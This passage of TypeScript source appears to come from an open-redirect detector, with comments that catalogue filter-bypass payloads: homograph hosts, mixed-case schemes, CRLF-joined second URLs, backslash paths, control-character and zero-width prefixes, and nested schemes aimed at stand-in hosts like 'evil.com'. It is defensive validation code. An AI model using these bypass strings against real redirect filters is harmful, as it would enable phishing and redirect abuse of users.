      // (sixteenth round) a host mixing Latin letters with Cyrillic or Greek look-alikes (`https://еvil.com`): a homograph
      if (obfuscatedAddress(target) || HOMOGRAPH.test(target)) return true
      // an out-of-band or canary service's host: only a probe sends a user there; a scheme in mixed case
      // (HtTp://, hTTps://), which no link and no client writes, spelt to slip past a filter's comparison
      if (OOB_HOST.test(target) || (raw !== undefined && MIXED_CASE_SCHEME.test(raw) && !this.#own.includes(target))) return true
      if (this.#namesOwnElsewhere(v, m[1]!.replace(TRAILING_PORT, ''))) return true
      if (this.#speltTarget(v, m, target)) return true
      // (twelfth round) a second URL after a blank, a line break or a `;` (`https://a.example/;https://evil`,
      // `https://a.example%0d%0ahttps://evil`): a check reads the first, a lenient parser or a header the second
      const second = SECOND_URL.exec(v.slice(m[0].length, m[0].length + 300))
      if (second !== null) {
        const other = hostOf(second[1]!.replace(TRAILING_PORT, ''))
        if (other.includes('.') && other !== target && !this.#own.some((own) => other === own || other.endsWith(`.${own}`))) return true
      }
      const nested = NESTED_REDIRECT.exec(v)
      return nested !== null && nested[1]!.split(':')[0] !== nested[2]!.split(':')[0]
    }
    if (PATH_THEN_URL.test(v)) return true
    // a path that is only another site's name or address (/evil.com, \evil.com, /.evil.com, ../evil.com,
    // /216.58.214.206): an application that joins it to its origin without a slash, or a browser that
    // reads the backslash as a slash, goes there
    const named = HOST_PATH.exec(v)
    if (named !== null) return !this.#own.some((own) => named[1] === own || named[1]!.endsWith(`.${own}`))
    // an invisible character before a host (a zero-width space, a soft hyphen): a check that reads it as a path, a browser that drops it
    if (INVISIBLE_START.test(v)) return this.#redirect(v.replace(INVISIBLE_START, ''), undefined, depth, bareTarget)
    // (twentieth round) a control character before a host, or a character whose low byte is one (`%00google.com`,
    // `嘍google.com`: U+560D, which a server keeping a character's low byte reads as a carriage return): read without them
    const c0 = v.charCodeAt(0)
    if (depth < 2 && (c0 < 0x20 || (c0 > 0xff && (c0 & 0xff) < 0x20))) {
      let k = 0
      while (k < 8 && k < v.length && (v.charCodeAt(k) < 0x20 || (v.charCodeAt(k) > 0xff && (v.charCodeAt(k) & 0xff) < 0x20))) k++
      if (k < v.length) return this.#redirect(v.slice(k), undefined, depth + 1, bareTarget)
    }
    // a URL behind a short prefix that a check reads as a path and a browser or a filter stripping the
    // scheme once removes (`x00http://evil`, NUL then `http://evil`, `hthttp://tp://evil`): to another host
    const inner = EMBEDDED_SCHEME.exec(v)
    if (inner !== null) {
      const at = inner[0].length - inner[1]!.length
      for (const w of [v.slice(at), v.slice(0, at) + v.slice(at + inner[1]!.length)]) {
        const u = ABSOLUTE_URL.exec(w)
        const target = u === null ? '' : hostOf(u[1]!.replace(TRAILING_PORT, ''))
        if (target.includes('.') && !this.#own.some((own) => target === own || target.endsWith(`.${own}`))) return true
      }
    }
    // (review) inside another URL's query a bare name or address is a target under a parameter named for a URL only
    // (`?url=evil.com`); elsewhere it is that URL's data: a referrer (`r=news.ycombinator.com`), a trip's destination
    // (`dest=paris.fr`, `to=cdg.fr`), a page's cursor (`next=eyJpZCI6MX0.abc`)
    if (!bareTarget) return false
    // a bare host: another site's, not this one's (nor a subdomain of it)
    // an address alone (216.58.214.206): another host
    if (BARE_ADDRESS.test(v)) return !this.#own.includes(v.trim())
    const bare = BARE_TARGET.exec(v)
    if (bare === null) return false
    const host = bare[1]!
    return !this.#own.some((own) => host === own || host.endsWith(`.${own}`))
  }
}
